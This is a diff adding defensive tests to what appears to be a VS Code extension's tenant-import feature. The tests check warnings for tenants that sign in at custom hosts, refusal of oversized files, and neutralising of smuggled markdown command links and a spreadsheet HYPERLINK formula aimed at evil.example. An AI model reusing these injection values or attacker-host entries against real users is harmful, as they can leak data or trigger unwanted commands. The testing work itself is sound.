@@ -397,6 +397,65 @@ describe('a tenant file from someone else cannot steer sign-in unseen', () => {
     assert.equal(detail.split('\n').filter((line) => line.startsWith('Not added')).length, 1, 'only the real "Not added" line');
   });
 
+  it('every tenant that signs in at a custom cloud or with a shared credential is listed with its warning, however long the file', async () => {
+    const harmless = Array.from({ length: 30 }, (_, index) => `Plain ${index},p${index}.example.com,${APP},global,vscode,,,`);
+    const hidden = `Hidden,h.example.com,${APP},custom,clientCredentials,https://graph.evil.example,https://login.evil.example,true`;
+    const ui = new ScriptedUserInput([csvFile([...harmless, hidden]), { confirm: false }]);
+    await importTenants(actionContext(ui), { keys: () => [], addAll: async () => assert.fail('declined') });
+    const lines = (ui.of('confirm')[0].detail ?? '').split('\n');
+    assert.deepEqual(lines.slice(0, 4), [
+      'To add (31):',
+      `• "Hidden" · custom · clientCredentials · client ${APP} · tenant h.example.com`,
+      '  ⚠ Custom cloud: signs in at login.evil.example and reads Graph at graph.evil.example. Add it only if you know these servers.',
+      `  ⚠ Uses the client secret or certificate stored for the app ${APP}, shared with its other tenants.`,
+    ]);
+    assert.equal(lines.filter((line) => line.startsWith('• "Plain ')).length, 25);
+    assert.equal(lines.at(-1), '… and 5 more');
+  });
+
+  it('a file with more such tenants than a preview can show is refused, saying how to split it, and adds nothing', async () => {
+    const custom = Array.from(
+      { length: 26 },
+      (_, index) => `Lab ${index},l${index}.example.com,${APP},custom,deviceCode,https://graph.lab.example,https://login.lab.example,`,
+    );
+    const ui = new ScriptedUserInput([csvFile(custom)]);
+    await importTenants(actionContext(ui), { keys: () => [], addAll: async () => assert.fail('nothing is added') });
+    assert.equal(
+      ui.of('error')[0].message,
+      'Nothing was added: "tenants.csv" holds 26 tenants that sign in at a custom cloud or use a shared credential, and a preview shows at most 25 of them, each with where it signs in. Split the file into files of at most 25 such tenants and import each.',
+    );
+    assert.deepEqual(ui.of('confirm'), []);
+    const allShown = new ScriptedUserInput([csvFile(custom.slice(1)), { confirm: false }]);
+    await importTenants(actionContext(allShown), { keys: () => [], addAll: async () => assert.fail('declined') });
+    assert.equal((allShown.of('confirm')[0].detail ?? '').split('\n').filter((line) => line.includes('⚠ Custom cloud')).length, 25);
+  });
+
+  it("a row's values and the file's name are echoed as plain text: no link, no line of their own", async () => {
+    const ui = new ScriptedUserInput([
+      {
+        file: {
+          name: 'list](command:workbench.action.terminal.new)\nRow 9 (Fake): fine.csv',
+          size: 1,
+          text: [
+            HEADER,
+            `A,a.example.com,${APP},[Open the fix](command:intuneVpp.signOut),vscode,,,`,
+            `B,b.example.com,${APP},"glo\nbal",vscode,,,`,
+          ].join('\r\n'),
+        },
+      },
+    ]);
+    await importTenants(actionContext(ui), { keys: () => [], addAll: async () => assert.fail('nothing is added') });
+    const message = ui.of('error')[0].message ?? '';
+    assert.deepEqual(message.split('\n'), [
+      'No tenant of "list] (command:workbench.action.terminal.new) Row 9 (Fake): fine.csv" can be added.',
+      'Row 2 (A): unknown cloud "[Open the fix] (command:intuneVpp.signOut)" (use one of global, usGov, usGovDoD, china, custom)',
+      'Row 3 (B): unknown cloud "glo bal" (use one of global, usGov, usGovDoD, china, custom)',
+    ]);
+    const broken = new ScriptedUserInput([{ file: { name: 'x](command:y).json', size: 3, text: '[{' } }]);
+    await importTenants(actionContext(broken), { keys: () => [], addAll: async () => assert.fail('nothing is added') });
+    assert.equal(broken.of('error')[0].message, 'The file "x] (command:y).json" could not be read: The file is not valid JSON.');
+  });
+
   it('Export neutralises formula-like cells, and Import reads back exactly what was exported', () => {
     const labels = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1 Contoso', '-Fabrikam', '@home', "'quoted", "''twice", 'Plain'];
     const tenants: TenantEntry[] = labels.map((label, index) => ({
